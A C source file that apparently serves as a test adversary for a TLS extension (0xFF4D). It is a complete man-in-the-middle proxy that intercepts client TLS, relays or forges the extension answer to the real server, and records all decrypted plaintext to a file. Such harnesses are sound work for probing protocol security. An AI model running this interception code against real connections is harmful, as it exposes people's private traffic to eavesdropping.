/* The strongest attacker that path 1 alone allows: terminates the client's TLS with a certificate
 * that the client accepts, opens TLS to the real server with the *client's own* extension 0xFF4D in
 * its ClientHello, and hands the server's answer back in its EncryptedExtensions. To both ends the
 * session looks negotiated. What it lacks is one handshake transcript that both ends share.
 *
 *     mitm_ext [--answer HEX | --answer-resumed HEX] CERT KEY NAME RECORD-FILE [HOST PORT]
 *
 * --answer: the server is not asked; these bytes are the answer, and its own TLS to the server has
 * no extension.
 * --answer-resumed: the same, but only a client that resumes a session of ours gets them.
 *
 * One JSON line per event on standard output; the plaintext it gets goes to RECORD-FILE. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <getopt.h>
#include <linux/netfilter_ipv4.h>
#include <netdb.h>
#include <netinet/in.h>
#include <poll.h>
#include <pthread.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#include <openssl/err.h>
#include <openssl/ssl.h>

enum { EXT = 0xFF4D, EXT_MAX = 512 };

struct bytes {
    unsigned char data[EXT_MAX];
    size_t len;
};

struct victim {
    int fd, onward_fd;
    SSL *ssl, *onward;
    struct bytes hello, answer; /* the extension of the client, and of the server */
    bool answered;
};

static SSL_CTX *server_ctx, *client_ctx;
static struct bytes own_answer;
static bool only_resumed;
static const char *name, *to_host, *to_port;
static int record_fd, victim_idx;

static void say(const char *event, const char *detail)
{
    flockfile(stdout);
    printf("{\"event\": \"%s\", \"detail\": \"%s\"}\n", event, detail);
    fflush(stdout);
    funlockfile(stdout);
}

static void keep(struct bytes *to, const unsigned char *in, size_t len)
{
    to->len = len <= EXT_MAX ? len : 0;
    memcpy(to->data, in, to->len);
}

/* ---- our side towards the server ---- */

static int onward_add(SSL *ssl, unsigned type, unsigned context, const unsigned char **out,
                      size_t *outlen, X509 *x, size_t chain, int *al, void *arg)
{
    struct victim *v = SSL_get_ex_data(ssl, victim_idx);
    *out = v->hello.data;
    *outlen = v->hello.len;
    return own_answer.len == 0;
}

static int onward_parse(SSL *ssl, unsigned type, unsigned context, const unsigned char *in,
                        size_t inlen, X509 *x, size_t chain, int *al, void *arg)
{
    struct victim *v = SSL_get_ex_data(ssl, victim_idx);
    keep(&v->answer, in, inlen);
    v->answered = true;
    return 1;
}

/* Whatever a server that was not confirmed lets out: a ticket is the first thing. */
static int onward_ticket(SSL *ssl, SSL_SESSION *session)
{
    struct victim *v = SSL_get_ex_data(ssl, victim_idx);
    if (v->answered && own_answer.len == 0)
        say("ticket", "server");
    return 0;
}

static int connect_to(const char *host, const char *port)
{
    struct addrinfo hints = {.ai_socktype = SOCK_STREAM}, *found = NULL;
    int fd = -1;
    if (getaddrinfo(host, port, &hints, &found) != 0)
        return -1;
    fd = socket(found->ai_family, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd >= 0 && connect(fd, found->ai_addr, found->ai_addrlen) != 0) {
        close(fd);
        fd = -1;
    }
    freeaddrinfo(found);
    return fd;
}

static int dial(const struct victim *v)
{
    struct sockaddr_in was;
    socklen_t len = sizeof was;
    char host[INET_ADDRSTRLEN], port[16];
    if (to_host != NULL)
        return connect_to(to_host, to_port);
    if (getsockopt(v->fd, SOL_IP, SO_ORIGINAL_DST, &was, &len) != 0)
        return -1;
    inet_ntop(AF_INET, &was.sin_addr, host, sizeof host);
    snprintf(port, sizeof port, "%u", ntohs(was.sin_port));
    return connect_to(host, port);
}

/* ---- our side towards the client ---- */

/* The client's extension is here: shake hands with the server now, so that its answer is known when
 * our own EncryptedExtensions are written. */
static int victim_parse(SSL *ssl, unsigned type, unsigned context, const unsigned char *in,
                        size_t inlen, X509 *x, size_t chain, int *al, void *arg)
{
    struct victim *v = SSL_get_ex_data(ssl, victim_idx);
    *al = SSL_AD_INTERNAL_ERROR;
    keep(&v->hello, in, inlen);
    v->onward_fd = dial(v);
    if (v->onward_fd < 0)
        return 0;
    v->onward = SSL_new(client_ctx);
    SSL_set_ex_data(v->onward, victim_idx, v);
    SSL_set_fd(v->onward, v->onward_fd);
    SSL_set_tlsext_host_name(v->onward, name);
    if (SSL_connect(v->onward) != 1) {
        say("refused", "server");
        return 0;
    }
    say("connected", v->answered ? "server answered the extension" : "no answer");
    return 1;
}

static int victim_add(SSL *ssl, unsigned type, unsigned context, const unsigned char **out,
                      size_t *outlen, X509 *x, size_t chain, int *al, void *arg)
{
    struct victim *v = SSL_get_ex_data(ssl, victim_idx);
    *out = v->answer.data;
    *outlen = v->answer.len;
    if (own_answer.len > 0) {
        v->answered = !only_resumed || SSL_session_reused(ssl) == 1;
        *out = own_answer.data;
        *outlen = own_answer.len;
        say(v->answered ? "answered" : "not-answered", name);
    }
    return v->answered;
}

/* Copies one way until the end; 0 at the end. */
static int carry(SSL *from, SSL *to)
{
    char data[16384];
    int got = SSL_read(from, data, sizeof data);
    if (got <= 0) /* a record without data, a ticket for one, is no end */
        return SSL_get_error(from, got) == SSL_ERROR_WANT_READ;
    if (write(record_fd, data, (size_t)got) != got)
        return 0;
    return SSL_write(to, data, got) == got;
}

static void carry_both(struct victim *v)
{
    struct pollfd fds[2] = {{.fd = v->fd, .events = POLLIN},
                            {.fd = v->onward_fd, .events = POLLIN}};
    for (;;) {
        if (SSL_pending(v->ssl) == 0 && SSL_pending(v->onward) == 0 && poll(fds, 2, -1) < 0)
            return;
        if ((SSL_pending(v->ssl) || fds[0].revents) && !carry(v->ssl, v->onward))
            return;
        if ((SSL_pending(v->onward) || fds[1].revents) && !carry(v->onward, v->ssl))
            return;
    }
}

/* The client has left: what the server says by itself. */
static void listen_on(struct victim *v)
{
    struct timeval wait = {.tv_usec = 300000};
    char byte;
    setsockopt(v->onward_fd, SOL_SOCKET, SO_RCVTIMEO, &wait, sizeof wait);
    do
        errno = 0;
    while (SSL_peek(v->onward, &byte, 1) <= 0 && errno == 0 &&
           SSL_get_error(v->onward, -1) == SSL_ERROR_WANT_READ);
}

static void *serve(void *arg)
{
    struct victim *v = arg;
    v->ssl = SSL_new(server_ctx);
    SSL_set_ex_data(v->ssl, victim_idx, v);
    SSL_set_fd(v->ssl, v->fd);
    if (SSL_accept(v->ssl) != 1 || v->onward == NULL) {
        say("refused", v->onward != NULL ? "client" : "no extension seen");
        if (v->answered && own_answer.len == 0)
            listen_on(v);
    } else {
        say("intercepted", name);
        carry_both(v);
    }
    say("end", "");
    SSL_free(v->ssl);
    SSL_free(v->onward);
    close(v->fd);
    if (v->onward_fd >= 0)
        close(v->onward_fd);
    free(v);
    return NULL;
}

static int setup(const char *cert, const char *key)
{
    const unsigned both = SSL_EXT_CLIENT_HELLO | SSL_EXT_TLS1_3_ENCRYPTED_EXTENSIONS;
    server_ctx = SSL_CTX_new(TLS_server_method());
    client_ctx = SSL_CTX_new(TLS_client_method());
    SSL_CTX_clear_mode(server_ctx, SSL_MODE_AUTO_RETRY);
    SSL_CTX_clear_mode(client_ctx, SSL_MODE_AUTO_RETRY);
    SSL_CTX_set_session_cache_mode(client_ctx, SSL_SESS_CACHE_CLIENT | SSL_SESS_CACHE_NO_INTERNAL);
    SSL_CTX_sess_set_new_cb(client_ctx, onward_ticket);
    SSL_CTX_set_session_id_context(server_ctx, (const unsigned char *)"theirs", 6);
    victim_idx = SSL_get_ex_new_index(0, NULL, NULL, NULL, NULL);
    return SSL_CTX_use_certificate_chain_file(server_ctx, cert) == 1 &&
           SSL_CTX_use_PrivateKey_file(server_ctx, key, SSL_FILETYPE_PEM) == 1 &&
           SSL_CTX_add_custom_ext(server_ctx, EXT, both, victim_add, NULL, NULL, victim_parse,
                                  NULL) == 1 &&
           SSL_CTX_add_custom_ext(client_ctx, EXT, both, onward_add, NULL, NULL, onward_parse,
                                  NULL) == 1;
}

static int listen_any(void)
{
    struct sockaddr_in any = {.sin_family = AF_INET};
    socklen_t len = sizeof any;
    int fd = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    if (fd < 0 || bind(fd, (struct sockaddr *)&any, len) != 0 || listen(fd, 64) != 0 ||
        getsockname(fd, (struct sockaddr *)&any, &len) != 0)
        return -1;
    printf("{\"event\": \"listening\", \"port\": %u}\n", ntohs(any.sin_port));
    fflush(stdout);
    return fd;
}

/* Takes the options away from the arguments; false: they are wrong. */
static bool options(int *argc, char ***argv)
{
    static const struct option known[] = {{"answer", required_argument, NULL, 'a'},
                                          {"answer-resumed", required_argument, NULL, 'r'},
                                          {NULL, 0, NULL, 0}};
    int c;
    while ((c = getopt_long(*argc, *argv, "+", known, NULL)) != -1) {
        if (c != 'a' && c != 'r')
            return false;
        only_resumed = c == 'r';
        if (OPENSSL_hexstr2buf_ex(own_answer.data, EXT_MAX, &own_answer.len, optarg, '\0') != 1)
            return false;
    }
    *argc -= optind - 1;
    *argv += optind - 1;
    return *argc == 5 || *argc == 7;
}

int main(int argc, char **argv)
{
    int fd;
    if (!options(&argc, &argv))
        return 1;
    signal(SIGPIPE, SIG_IGN);
    name = argv[3];
    record_fd = open(argv[4], O_WRONLY | O_CREAT | O_APPEND | O_CLOEXEC, 0600);
    to_host = argc == 7 ? argv[5] : NULL;
    to_port = argc == 7 ? argv[6] : NULL;
    if (record_fd < 0 || !setup(argv[1], argv[2]) || (fd = listen_any()) < 0) {
        ERR_print_errors_fp(stderr);
        return 1;
    }
    for (;;) {
        pthread_t thread;
        struct victim *v = calloc(1, sizeof *v);
        if (v == NULL)
            return 1;
        v->onward_fd = -1;
        v->fd = accept4(fd, NULL, NULL, SOCK_CLOEXEC);
        if (v->fd < 0 || pthread_create(&thread, NULL, serve, v) != 0)
            return 1;
        pthread_detach(thread);
    }
}
